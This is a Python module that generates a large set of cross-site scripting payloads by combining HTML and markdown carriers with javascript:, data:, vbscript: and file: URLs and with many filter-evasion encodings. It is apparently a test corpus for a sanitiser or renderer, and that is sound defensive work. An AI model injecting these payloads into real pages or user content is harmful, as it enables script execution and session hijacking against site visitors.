"""Words that try to become a program in a page, made by combining what each kind of them needs.

Where one runs, it calls ``alert``, ``confirm``, ``prompt`` or ``print``.
"""

from collections.abc import Iterator
from itertools import cycle, islice, product

PROGRAMS = ("alert(1)", "prompt()", "alert`1`", "top['al'+'ert'](1)", "(0,eval)('print()')")
_ENCODED = "<script>alert(1)</script>"

# --- Addresses: what each scheme would run, disguised in every way that some reader undoes.

_SCHEMES = {
    "javascript": "alert(1)",
    "vbscript": "msgbox(1)",
    "data": "text/html,<script>alert(1)</script>",
    "file": "///etc/passwd",
    "blob": "https://shop.example/3f1c",
}
_LOOKALIKE = str.maketrans("aceipst", "\u0430\u0441\u0435\u0456\u0440\u0455\u0442")
_WIDE = {sign: sign + 0xFEE0 for sign in range(0x21, 0x7F)}


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in text)


_DISGUISES = {
    "plain": "{name}:{rest}",
    "capitals": "{capitals}:{rest}",
    "mixed case": "{mixed}:{rest}",
    "decimal entities": "{decimal}:{rest}",
    "hexadecimal entities": "{hexadecimal}:{rest}",
    "entities without an end": "{endless}:{rest}",
    "entities with zeros": "{padded}:{rest}",
    "a colon by name": "{name}&colon;{rest}",
    "a colon by number": "{name}&#58;{rest}",
    "a wide colon": "{name}\uff1a{rest}",
    "a tab within": "{head}\t{tail}:{rest}",
    "a tab by name": "{head}&Tab;{tail}:{rest}",
    "a newline within": "{head}\n{tail}:{rest}",
    "a newline by name": "{head}&NewLine;{tail}:{rest}",
    "a return by number": "{head}&#13;{tail}:{rest}",
    "NUL within": "{head}\0{tail}:{rest}",
    "NUL by number": "{head}&#0;{tail}:{rest}",
    "a space before": "\u00a0{name}:{rest}",
    "a control before": "\x01{name}:{rest}",
    "a control by number": "&#1;{name}:{rest}",
    "an escape before": "\x1b[0m{name}:{rest}",
    "zero width within": "{head}\u200b{tail}:{rest}",
    "a mark of order before": "\ufeff{name}:{rest}",
    "turned around": "\u202e{name}:{rest}",
    "a soft hyphen within": "{head}\u00ad{tail}:{rest}",
    "percent signs": "{percent}:{rest}",
    "a percent colon": "{name}%3A{rest}",
    "twice percent": "{name}%253A{rest}",
    "letters that look alike": "{lookalike}:{rest}",
    "wide letters": "{wide}:{rest}",
    "a backslash": "\\{name}:{rest}",
    "a backslash colon": "{name}\\:{rest}",
    "a comment": "{name}://%0a{rest}",
    "after http": "http:{name}:{rest}",
    "after a name": "https://shop.example@{name}:{rest}",
    "after view-source": "view-source:{name}:{rest}",
    "after feed": "feed:{name}:{rest}",
    "after a slash": "/{name}:{rest}",
    "after a letter that looks like s": "http\u017f:{name}:{rest}",
}


def _addresses() -> Iterator[str]:
    for disguise, (name, rest) in product(_DISGUISES.values(), _SCHEMES.items()):
        half = len(name) // 2
        yield disguise.format(
            name=name,
            rest=rest,
            head=name[:half],
            tail=name[half:],
            capitals=name.upper(),
            mixed="".join(sign.upper() if at % 2 else sign for at, sign in enumerate(name)),
            decimal=_decimal(name),
            hexadecimal="".join(f"&#x{ord(sign):X};" for sign in name),
            endless="".join(f"&#{ord(sign)}" for sign in name),
            padded="".join(f"&#{ord(sign):07};" for sign in name),
            percent="".join(f"%{ord(sign):02x}" for sign in name),
            lookalike=name.translate(_LOOKALIKE),
            wide=name.translate(_WIDE),
        )


ADDRESSES = tuple(dict.fromkeys(_addresses()))
"""Addresses that nobody may follow."""

_LINKS = (
    "[click]({})",
    "[click](<{}>)",
    "[click]({} 'title')",
    '[click]({} "title\\" onclick=alert(1)")',
    "<{}>",
    "![image]({})",
    "[![image]({})](https://shop.example)",
    "[click [nested [brackets]]]({})",
    "[click][1]\n\n[1]: {}",
    "[click]\n\n[click]: <{}> 'title'",
    "[**click**]({})",
    "[`click`]({})",
    "# [click]({})",
    "- [click]({})",
    "> [click]({})",
    "| [click]({}) |\n|---|\n| [click]({}) |",
    "[click](https://shop.example){href={}}",
    "[click](https://shop.example'onclick='{})",
    "[click](\n{}\n)",
    "https://shop.example/?next={} {}",
    '<a href="{}">click</a>',
    "<a href={}>click</a>",
    "<a xlink:href='{}'>click</a>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><input type=submit></form>",
    "<button formaction='{}'>click</button>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<svg><a href='{}'><text y=20>click</text></a></svg>",
    "<svg><use href='{}'></use></svg>",
    "<math><maction actiontype=statusline xlink:href='{}'>click</maction></math>",
    "<link rel=stylesheet href='{}'>",
    "<area href='{}' shape=default>",
)

# --- Tags that run what they hold, and the ways to hide a tag from one reader but not the next.

_TAGS = (
    "<script>{}</script>",
    "<script src='data:text/javascript,{}'></script>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img src=x onerror\n=\n'{}'>",
    "<image src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to='javascript:{}'></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></table></mtext></math>",
    "<math href='javascript:{}'>click</math>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<div style='animation:x' onanimationstart={}>",
    "<div popover id=p onbeforetoggle={}></div><button popovertarget=p>click</button>",
    "<p onpointerenter={}>here</p>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<style>@import 'javascript:{}';</style>",
    "<frontdesk-chat onclick={}></frontdesk-chat>",
    "<title></title><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml ?><script xmlns='http://www.w3.org/1999/xhtml'>{}</script>",
)
_HIDINGS = (
    "{}",
    "**{}**",
    "# {}",
    "- {}",
    "> {}",
    "| {} |\n|---|\n| x |",
    "`{}`",
    "```html\n{}\n```",
    "```{}\ncode\n```",
    "[{}](https://shop.example)",
    "![{}](https://shop.example/x.png)",
    "[1] {} [1]",
    "\"'>{}",
    "</p></div></template>{}",
    "-->]]>{}",
)


def _hidden(tag: str) -> Iterator[str]:
    """Yield ``tag`` in the spellings that only become one when somebody decodes it."""
    yield _decimal(tag)
    yield tag.replace("<", "&lt;").replace(">", "&gt;")
    yield tag.replace("<", "&amp;lt;")
    yield tag.replace("<", "\\<")
    yield tag.replace("<", "%3C").replace(">", "%3E")
    yield tag.replace("<", "\\u003c")
    yield tag.replace("<", "\uff1c").replace(">", "\uff1e")
    yield tag.replace("<", "<\0")
    yield tag.replace("<s", "<\u200bs")
    yield tag.upper()
    yield tag.replace("script", "scr<script>ipt")
    yield tag.replace("<", "<<")


def _vectors() -> Iterator[str]:
    links = cycle(_LINKS)
    for address in ADDRESSES:  # each with three carriers, which go round
        yield from (link.replace("{}", address) for link in islice(links, 3))
    for tag, program in product(_TAGS, PROGRAMS):
        yield tag.replace("{}", program)
    for (number, tag), hiding in product(enumerate(_TAGS), _HIDINGS):
        yield hiding.replace("{}", tag.replace("{}", PROGRAMS[number % 2]))
    yield from _hidden(_ENCODED)
    yield from _hidden("<img src=x onerror=confirm()>")


VECTORS = tuple(dict.fromkeys(_vectors()))
"""Words for every place where somebody else's words are shown."""
